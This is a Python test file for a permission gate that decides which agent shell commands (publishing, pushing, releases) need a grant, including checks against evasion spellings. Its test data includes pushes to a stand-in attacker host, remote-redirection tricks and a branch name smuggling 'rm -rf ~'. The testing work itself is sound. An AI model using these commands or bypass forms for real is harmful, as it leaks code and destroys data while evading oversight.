"""Capabilities: which actions are gated, what covers them, and what a denial says."""

from __future__ import annotations

import re
import tomllib

import pytest

from interlock.approve.gated import GATES, gate_of
from interlock.approve.grant import Grant
from interlock.approve.remedy import remedy_for
from interlock.decide import decide
from interlock.evals.lexical import read_lexically
from interlock.layers import LAYERS
from interlock.model.action import Action, Reading
from interlock.model.call import Call
from interlock.model.decision import Decision
from interlock.model.effects import Effect
from interlock.model.facts import Facts
from interlock.model.session import Session
from interlock.model.toolnames import declared_tool
from interlock.model.verdict import Verdict
from interlock.policy.compile import compile_policy
from interlock.policy.model import Policy
from interlock.store.clock import live_grants
from interlock.store.home.policies import default_file
from interlock.value import FrozenMap

NOW = "2026-06-01T12:00:00Z"
FILES = {
    "/repo/package.json": '{"name": "@acme/app", "version": "1.0.0"}',
    "/repo/Cargo.toml": '[package]\nname = "acme"\n',
    "/repo/pyproject.toml": '[project]\nname = "Acme.App"\n',
    "/repo/sub/package.json": '{"name": "sub", "publishConfig": {"directory": "dist"}}',
}


def policy(text: str = "", *, enforce: bool = True) -> Policy:
    with open(default_file(), "rb") as file:
        default = file.read()
    user = f"version = 1\n[capability]\nenforce = {str(enforce).lower()}\n{text}"
    return compile_policy((("default", "default.toml", default), ("user", "user.toml", user.encode())))


def reading_of(command: str, *, tool: str = "Bash", facts: Facts | None = None) -> Reading:
    call = Call(tool=tool, input=FrozenMap({"command": command}), cwd="/repo")
    known = facts or Facts(root="/repo", home="/home/user", scripts=FrozenMap(FILES))
    return read_lexically(call, known)[0]


def decided(command: str, in_force: Policy, *more: Grant, moment: str = NOW, tool: str = "Bash") -> Decision:
    facts = Facts(root="/repo", home="/home/user", scripts=FrozenMap(FILES), declared=declared_tool(in_force, tool))
    reading = reading_of(command, tool=tool, facts=facts)
    call = Call(tool=tool, input=FrozenMap({"command": command}), cwd="/repo")
    return decide(call, reading, in_force, Session(), (*live_grants(in_force, moment), *more))


def grant(action: str, expires: str = "", **scope: str) -> str:
    """To anywhere, unless a destination is named: where things go is the matter of test_destinations.py."""
    scope = {"destination": "*", **scope}
    inside = ", ".join(f'{field} = "{value}"' for field, value in scope.items())
    return f'[[grants]]\nid = "g-{action}"\naction = "{action}"\nscope = {{ {inside} }}\n{expires}\n'


def gated(command: str) -> list[str]:
    """The gated actions of a command line."""
    return [action.name for action in reading_of(command).actions if gate_of(action) is not None]


# --- which actions ---------------------------------------------------------------------------------

FORMS = [
    ("npm publish", ["npm:publish"]),
    ("npm --loglevel silent publish --access public ./pkg.tgz", ["npm:publish"]),
    ("npm pub", ["npm:publish"]),
    ("pnpm -r publish", ["npm:publish"]),
    ("yarn npm publish", ["npm:publish"]),
    ("bun publish", ["npm:publish"]),
    ("twine upload dist/*", ["pypi:publish"]),
    ("python -m twine upload --skip-existing dist/a-1.0.tar.gz", ["pypi:publish"]),
    ("uv publish --token x", ["pypi:publish"]),
    ("flit publish", ["pypi:publish"]),
    ("poetry publish --build", ["pypi:publish"]),
    ("hatch publish", ["pypi:publish"]),
    ("maturin publish", ["pypi:publish"]),
    ("cargo +nightly publish -p acme", ["cargo:publish"]),
    ("cargo release -x", ["cargo:publish"]),
    ("gem push acme-1.0.gem", ["gem:push"]),
    ("docker push acme/app:1", ["docker:push"]),
    ("podman push acme/app:1", ["docker:push"]),
    ("docker buildx build --push -t acme/app:1 .", ["docker:push"]),
    ("gh release create v1 dist/a.tgz", ["gh:release-create"]),
    ("gh -R acme/app release upload v1 a.tgz", ["gh:release-upload"]),
    ("gh release edit v1 --draft=false", ["gh:release-edit"]),
    ("gh release delete v1", ["gh:release-delete"]),
    ("gh pr create --fill", ["gh:pr-create"]),
    ("gh pr new --fill", ["gh:pr-create"]),
    ("gh repo edit --visibility public", ["gh:repo-edit"]),
    ("gh repo delete acme/app --yes", ["gh:repo-delete"]),
    ("gh api -X DELETE repos/acme/app", ["gh:api"]),
    ("gh api repos/acme/app/releases -f tag_name=v1", ["gh:api"]),
    ("gh api graphql -f query='mutation { x }'", ["gh:api"]),
    ("curl -X PUT https://registry.npmjs.org/app -d @body.json", ["net:send"]),
    ("git push", ["git:push"]),
    ("git -C sub push --force origin main", ["git:push"]),
    ("git subtree push --prefix docs origin gh-pages", ["git:subtree-push"]),
    ("git send-pack origin main", ["git:send-pack"]),
    ("gh-pages -d dist", ["pages:deploy"]),
    ("npx gh-pages -d dist", ["pages:deploy"]),
    ("mkdocs gh-deploy --remote-branch pages", ["pages:deploy"]),
    ("ghp-import -p docs", ["pages:deploy"]),
    ("mike deploy --push 1.0", ["pages:deploy"]),
    ("wrangler pages deploy dist", ["pages:deploy"]),
    # ways round
    ("pnpm recursive publish", ["npm:publish"]),
    ("yarn workspaces foreach -A --no-private npm publish", ["npm:publish"]),
    ("yarn workspace a npm publish", ["npm:publish"]),
    ("deno run -A npm:npm publish", ["npm:publish"]),
    ("python setup.py sdist upload", ["pypi:publish"]),
    ("python setup.py sdist bdist_wheel", []),
    ("docker buildx build -o type=registry -t acme/app .", ["docker:push"]),
    ("docker buildx build --output type=image,name=acme/app,push=true .", ["docker:push", "docker:push"]),
    ("docker buildx build --cache-to type=registry,ref=acme/cache .", ["docker:push"]),
    ("docker buildx build -o type=local,dest=out .", []),
    ("docker buildx imagetools create -t acme/app:2 acme/app:1", ["docker:push"]),
    ("docker buildx imagetools inspect acme/app", []),
    ("crane push app.tar r.example/app", ["docker:push"]),
    ("crane manifest r.example/app", []),
    ("oras push r.example/x:1 a.txt", ["docker:push"]),
    ("regctl image copy a/b:1 c/d:1", ["docker:push"]),
    ("ko build ./cmd/app", ["docker:push"]),
    # wrapped, spelt otherwise, joined
    ("sudo npm publish", ["npm:publish"]),
    ("env CI=1 timeout 60 npm publish", ["npm:publish"]),
    ("nohup git push origin main &", ["git:push"]),
    ("c=push; git $c origin main", ["git:push"]),
    ("x='npm publish'; $x", ["npm:publish"]),
    ("bash -c 'git push'", ["git:push"]),
    ("git \\\n push", ["git:push"]),
    ("git pu''sh", ["git:push"]),
    ("git -c alias.p=push p", ["git:push"]),
    ("eval git push", ["git:push"]),
    ("if true; then git push; fi", ["git:push"]),
    ("echo $(git push)", ["git:push"]),
    ("python -c \"import os; os.system('npm publish')\"", ["npm:publish"]),
    ("npm publish && git push && docker push acme/app", ["npm:publish", "git:push", "docker:push"]),
    # a dry run that is taken back is none
    ("npm publish --dry-run=false", ["npm:publish"]),
    ("npm publish --dry-run false", ["npm:publish"]),
    ("git push --dry-run --no-dry-run origin main", ["git:push"]),
    # not gated
    ("npm publish --dry-run", []),
    ("git push -n origin main", []),
    ("cargo publish --dry-run", []),
    ("git stash push -m wip", []),
    ("git log --grep push", []),
    ("git config push.default simple", []),
    ('echo "git push"', []),
    ("grep -r 'npm publish' .", []),
    ("npm run publish-check", []),
    ("gh release list", []),
    ("gh pr view 5", []),
    ("gh api repos/acme/app/releases", []),
    ("docker pull acme/app", []),
    ("cargo package", []),
    ("curl https://registry.npmjs.org/app", []),
]


@pytest.mark.parametrize(("command", "names"), FORMS, ids=[command for command, _ in FORMS])
def test_what_is_gated(command: str, names: list[str]) -> None:
    assert gated(command) == names


@pytest.mark.parametrize("command", [command for command, names in FORMS if names])
def test_every_gated_form_is_denied_without_a_grant_and_free_of_the_gate_when_off(command: str) -> None:
    assert decided(command, policy()).verdict is Verdict.DENY
    off = decided(command, policy(enforce=False))
    assert [finding for finding in off.reasons if finding.layer == "capability"] == []


def test_no_answer_of_a_session_stands_in_for_a_capability() -> None:
    asked = decided("git push origin main", policy(enforce=False))
    once = Grant(id="yes", kind="once", binds=asked.approval)
    remembered = Grant(id="kept", kind="remembered", action="git:push", scope=FrozenMap({"destination": "*"}))
    assert decided("git push origin main", policy(enforce=False), once).verdict is Verdict.ALLOW
    assert decided("git push origin main", policy(), once, remembered).verdict is Verdict.DENY


def test_each_action_of_a_compound_call_needs_its_own_grant() -> None:
    both = "npm publish && git push origin main"
    npm, git = grant("npm:publish"), grant("git:push")
    assert [decided(both, policy(text)).verdict.name for text in ("", npm, git, npm + git)] == [
        "deny", "deny", "deny", "allow",
    ]  # fmt: skip
    assert [g.id for g in decided(both, policy(npm + git)).used] == ["g-npm:publish", "g-git:push"]


def test_actions_that_a_user_names_are_gated_too() -> None:
    named = 'actions = ["terraform:*", "mcp:mail:*"]\n'
    found = decided("terraform apply", policy(named))
    assert [(f.rule, f.verdict.name) for f in found.reasons if f.layer == "capability"] == [("terraform:apply", "deny")]
    assert decided("x", policy(named), tool="mcp__mail__send").verdict is Verdict.DENY
    assert decided("terraform plan", policy(named)).verdict is Verdict.DENY  # the glob says all of them


def test_a_failing_layer_denies() -> None:
    def capability(*_: object) -> list[object]:
        raise ZeroDivisionError

    broken = tuple(capability if layer.__name__ == "capability" else layer for layer in LAYERS)
    call = Call(tool="Bash", input=FrozenMap({"command": "ls"}), cwd="/repo")
    # another function of the same name asks only; the layer itself fails closed
    assert decide(call, reading_of("ls"), policy(), Session(), (), broken).verdict is Verdict.ASK  # type: ignore[arg-type]
    odd = reading_of("ls").replace(actions=(Action(name="git:push", target=None),))  # type: ignore[arg-type]
    assert decide(call, odd, policy(), Session(), ()).verdict is Verdict.DENY


# --- scope -----------------------------------------------------------------------------------------

FEATURE = grant("git:push", remote="origin", branch="feature/*")
FORCED = grant("git:push", branch="feature/*", force="true")
SCOPES = [
    (FEATURE, "git push origin feature/x", True),
    (FEATURE, "git push -u origin feature/x", True),
    (FEATURE, "git push origin HEAD:feature/x", True),
    (FEATURE, "git push origin HEAD:refs/heads/feature/x", True),
    (FEATURE, "git push origin main", False),
    (FEATURE, "git push origin feature/x main", False),
    (FEATURE, "git push origin feature/x:main", False),
    (FEATURE, "git push origin HEAD", False),
    (FEATURE, "git push", False),
    (FEATURE, "git push origin", False),
    (FEATURE, "git push up feature/x", False),
    (FEATURE, "git push https://evil.example/r.git feature/x", False),
    (FEATURE, "git push --force origin feature/x", False),
    (FEATURE, "git push --force-with-lease origin feature/x", False),
    (FEATURE, "git push origin +feature/x", False),
    (FEATURE, "git push origin :feature/x", False),
    (FEATURE, "git push --delete origin feature/x", False),
    (FEATURE, "git push --mirror origin", False),
    (FEATURE, "git push --all origin", False),
    (FEATURE, "git push origin feature/x :", False),
    (FEATURE, "git push origin feature/x --tags", False),
    (FEATURE, "git push --follow-tags origin feature/x", False),
    (FEATURE, "git push --prune origin feature/x", False),
    (grant("git:push"), "git push --force origin main", False),
    (grant("git:push"), "git push", True),
    (FORCED, "git push -f origin feature/x", True),
    (FORCED, "git push -f origin main", False),
    (grant("git:push", folder="/repo"), "git push", True),
    (grant("git:push", folder="/repo"), "git -C sub push", False),
    (grant("npm:publish", package="@acme/app"), "npm publish", True),
    (grant("npm:publish", package="@acme/app"), "npm ci && npm run build && npm version patch && npm publish", True),
    (grant("npm:publish", package="@acme/app"), "npm publish ./other.tgz", False),
    (grant("npm:publish", package="@acme/app"), "npm publish -w other", False),
    (grant("npm:publish", package="@acme/app"), "npm -w other publish", False),
    (grant("npm:publish", package="@acme/app"), "npm --prefix sub publish", False),
    (grant("npm:publish", package="@acme/app"), "pnpm -r publish", False),
    (grant("npm:publish", package="@acme/app"), "lerna publish", False),
    (grant("npm:publish", package="@acme/app"), "cd sub && npm publish", False),
    (grant("npm:publish", package="sub"), "cd sub && npm publish", False),
    (grant("npm:publish", package="@acme/app"), "npm pkg set name=other && npm publish", False),
    (grant("npm:publish", package="@acme/app"), 'echo \'{"name": "x"}\' > package.json && npm publish', False),
    (grant("npm:publish", package="@acme/app"), "cp sub/package.json . && npm publish", False),
    (grant("npm:publish", path="/repo/dist/*"), "npm publish dist/app.tgz", True),
    (grant("npm:publish", path="/repo/dist/*"), "npm publish ../x.tgz", False),
    (grant("gem:push", path="/repo/dist/?.gem"), "gem push dist/a.gem", True),
    (grant("gem:push", path="/repo/dist/?.gem"), "gem push dist/*.gem", False),
    (grant("npm:publish", registry="https://r.example/*"), "npm publish --registry https://r.example/npm", True),
    (grant("npm:publish", registry="https://r.example/*"), "npm publish --registry https://evil.example", False),
    (grant("npm:publish", registry="https://r.example/*"), "npm publish", False),
    (grant("pypi:publish", package="acme-app"), "twine upload dist/acme_app-1.0-py3-none-any.whl", True),
    (grant("pypi:publish", package="acme-app"), "twine upload dist/acme_app-1.0.tar.gz dist/other-1.0.tar.gz", False),
    (grant("pypi:publish", package="acme-app"), "twine upload dist/*", False),
    (grant("pypi:publish", package="acme-app"), "uv publish", False),
    (grant("pypi:publish", package="acme-app"), "poetry publish --build", True),
    (grant("pypi:publish", package="acme-app"), "poetry -C sub publish", False),
    (grant("cargo:publish", package="acme"), "cargo publish", True),
    (grant("cargo:publish", package="acme"), "cargo publish -p other", False),
    (grant("cargo:publish", package="acme"), "cargo publish --workspace", False),
    (grant("cargo:publish", package="acme"), "cargo publish --manifest-path sub/Cargo.toml", False),
    (grant("docker:push", registry="r.example"), "docker push r.example/app:1", True),
    (grant("docker:push", registry="r.example"), "docker push acme/app:1", False),
    (grant("docker:push", registry="r.example"), "docker push r.example.evil/app:1", False),
    (grant("docker:push", image="r.example/app:*"), "docker push r.example/other:1", False),
    (grant("docker:push", registry="r.example"), "docker buildx build --push -t r.example/a:1 -t acme/a:1 .", False),
    (grant("docker:push"), "docker push --all-tags acme/app", False),
    (grant("gh:release-*", repo="acme/*"), "gh release create v1 -R acme/app", True),
    (grant("gh:release-*", repo="acme/*"), "gh release create v1 -R other/app", False),
    (grant("gh:release-*", repo="acme/*"), "gh release create v1", False),
    (grant("gh:pr-create", base="main"), "gh pr create --fill --base main", True),
    (grant("gh:pr-create", base="main"), "gh pr create --fill --base release", False),
    (grant("gh:repo-edit", repo="acme/app"), "gh repo edit acme/app --description x", True),
    (grant("gh:repo-edit", repo="acme/app"), "gh repo delete acme/app --yes", False),
    (grant("pages:deploy", branch="pages"), "mkdocs gh-deploy -b pages", True),
    (grant("pages:deploy", branch="pages"), "mkdocs gh-deploy -b main", False),
    (grant("pages:deploy", branch="pages"), "mkdocs gh-deploy -b pages --force", False),
]


@pytest.mark.parametrize(("text", "command", "covered"), SCOPES, ids=[f"{c} under {t[:80]}" for t, c, _ in SCOPES])
def test_scope(text: str, command: str, covered: bool) -> None:
    decision = decided(command, policy(text))
    stands = [finding for finding in decision.reasons if finding.layer == "capability"]
    assert (stands == []) is covered
    assert covered or decision.verdict is Verdict.DENY


def test_a_remote_that_the_same_call_redirects_is_not_read_as_the_one_that_was_granted() -> None:
    for command in (
        "git -c remote.origin.pushurl=https://evil.example/r push origin feature/x",
        "git remote set-url origin https://evil.example/r && git push origin feature/x",
    ):
        assert decided(command, policy(FEATURE)).verdict is Verdict.ASK


# --- life ------------------------------------------------------------------------------------------


def test_an_expired_grant_denies() -> None:
    day = policy(grant("git:push", "expires = 2026-06-01"))
    assert decided("git push", day, moment="2026-06-01T23:59:59Z").verdict is Verdict.ALLOW
    assert decided("git push", day, moment="2026-06-02T00:00:00Z").verdict is Verdict.DENY


@pytest.mark.parametrize(
    "text",
    [
        'expires = "2026-12-01"',
        "expires = 2026-12-01T10:00:00",
        "expires = true",
        "granted = true",
        "uses = -1",
        'scope = "main"',
    ],
)
def test_a_malformed_grant_is_refused_with_the_whole_file(text: str) -> None:
    from interlock.model.errors import PolicyError

    with pytest.raises(PolicyError):
        policy(f'[[grants]]\nid = "g"\naction = "git:push"\n{text}\n')


def test_a_project_can_switch_the_gate_on_and_never_off() -> None:
    with open(default_file(), "rb") as file:
        default = ("default", "default.toml", file.read())

    def merged(user: str, project: str) -> tuple[bool, tuple[str, ...]]:
        sources = (("user", "u.toml", user.encode()), ("project", "p.toml", project.encode()))
        found = compile_policy((default, *sources))
        return found.enforce, found.gated

    on = 'version = 1\n[capability]\nenforce = true\nactions = ["a:*"]\n'
    off = 'version = 1\n[capability]\nenforce = false\nactions = ["b:*"]\n'
    assert merged(on, off) == (True, ("a:*", "b:*"))
    assert merged(off, on) == (True, ("a:*", "b:*"))


# --- what a denial says ----------------------------------------------------------------------------


def test_a_denial_says_what_to_grant() -> None:
    (found,) = [f for f in decided("git push --force origin main", policy()).reasons if f.layer == "capability"]
    assert found.text == "Force-push `main` to origin: your policy allows this only with a grant, and none covers it."
    assert found.grant == "git:push destination=* remote=origin branch=main force=true"
    assert found.lifted_by == ("capability",)
    assert found.remedy == (
        "interlock grant \"git push\" --scope 'destination=*' --scope remote=origin --scope branch=main "
        "--scope force=true --for 2h\n"
        "[[grants]]\n"
        'id = "git-push"\n'
        'action = "git:push"\n'
        'scope = { branch = "main", destination = "*", force = "true", remote = "origin" }'
    )


@pytest.mark.parametrize("command", [command for command, names in FORMS if len(names) == 1])
def test_the_toml_of_a_denial_permits_the_call_it_was_made_for(command: str) -> None:
    found = [f for f in decided(command, policy()).reasons if f.layer == "capability"]
    toml = found[0].remedy[found[0].remedy.index("[[grants]]") :]
    assert [f for f in decided(command, policy(toml)).reasons if f.layer == "capability"] == []


def test_where_only_the_registry_is_known_the_folder_tells_what_is_published() -> None:
    reasons = decided("cd lib && npm publish --registry https://npm.example.com", policy()).reasons
    found = [finding for finding in reasons if finding.remedy]
    assert "--scope folder=" in found[0].remedy.splitlines()[0]
    assert "--scope destination=npm.example.com" in found[0].remedy.splitlines()[0]


def test_a_target_cannot_come_to_life_in_the_ready_command() -> None:
    def remedy(branch: str) -> str:
        action = Action(name="git:push", target=FrozenMap({"branch": branch}), effects=(Effect.NETWORK,))
        gate = gate_of(action)
        assert gate is not None
        return remedy_for(gate, action)

    first, *toml = remedy("x'; rm -rf ~; '").splitlines()
    assert first == "interlock grant \"git push\" --scope 'branch=x'\\''; rm -rf ~; '\\''' --for 2h"
    assert tomllib.loads("\n".join(toml))["grants"][0]["scope"] == {"branch": "x'; rm -rf ~; '"}
    assert "interlock grant" not in remedy("x\nrm -rf ~")
    assert tomllib.loads("\n".join(remedy('a"\\b').splitlines()[1:]))["grants"][0]["scope"] == {"branch": 'a"\\b'}


def test_a_near_miss_says_why_the_grant_does_not_cover() -> None:
    decision = decided("git push origin main", policy(FEATURE))
    assert "its scope is branch = feature/*, the call's is main" in [miss.why for miss in decision.near_misses]


# --- compensators ----------------------------------------------------------------------------------


def test_every_gate_names_its_compensator() -> None:
    assert [gate for gate in GATES if not gate.undo.strip() or not gate.done_by or not gate.scope] == []


@pytest.mark.parametrize("command", [command for command, names in FORMS if names])
def test_a_gated_action_carries_its_compensator_in_a_real_reading(command: str) -> None:
    for action in reading_of(command).actions:
        gate = gate_of(action)
        if gate is not None:
            assert action.compensator == gate.undo


def test_every_gated_action_is_one_that_some_form_above_or_its_row_reads() -> None:
    """A name in the table that the reading never gives would gate nothing."""
    seen = {name for _, names in FORMS for name in names}
    more = [
        "gh release delete-asset v1 a.tgz",
        "gh repo create x --push",
        "git lfs push origin main",
        "jj git push",
        "hub release create v1",
        "git http-push https://h.example main",
    ]
    seen |= {name for command in more for name in gated(command)}
    assert {gate.action for gate in GATES} == seen


def test_hosts_of_the_table_are_plain() -> None:
    for gate in GATES:
        assert all(re.fullmatch(r"[a-zA-Z0-9./*-]+", value) for value in gate.where.values())


@pytest.mark.parametrize(
    "command",
    [
        "yarn --cwd sub publish",
        "bun --cwd sub publish",
        "yarn workspace sub npm publish",
        "yarn workspaces foreach npm publish",
        "pnpm recursive publish",
    ],
)
def test_which_package_is_published_elsewhere_is_not_taken_from_this_folder(command: str) -> None:
    """The manifest here names @acme/app, and that is not what these publish."""
    assert decided(command, policy(grant("npm:publish", package="@acme/app"))).verdict is Verdict.DENY


@pytest.mark.parametrize(
    "command",
    [
        "docker buildx build --push -o type=registry,name=other.example/app -t r.example/app .",
        "docker buildx build --push --cache-to type=registry,ref=other.example/cache -t r.example/app .",
    ],
)
def test_everything_that_a_build_sends_to_a_registry_needs_its_own_cover(command: str) -> None:
    assert decided(command, policy(grant("docker:push", registry="r.example"))).verdict is Verdict.DENY


@pytest.mark.parametrize(
    "command",
    ["vsce publish", "ovsx publish", "jsr publish", "sbt +publish", "swift package-registry publish a 1",
     "surge dist x", "hf upload a b", "eas submit", "clasp push",
     "npx @vscode/vsce publish", "npx netlify-cli deploy --prod"],
)  # fmt: skip
def test_what_publishes_is_told_from_what_the_same_program_does_else(command: str) -> None:
    """A yes to `vsce package` is remembered under a name that is not that of `vsce publish`."""
    reading = reading_of(command)
    assert any("external" in action.tags for action in reading.actions)
    assert decided(command, policy(enforce=False)).verdict is Verdict.ASK
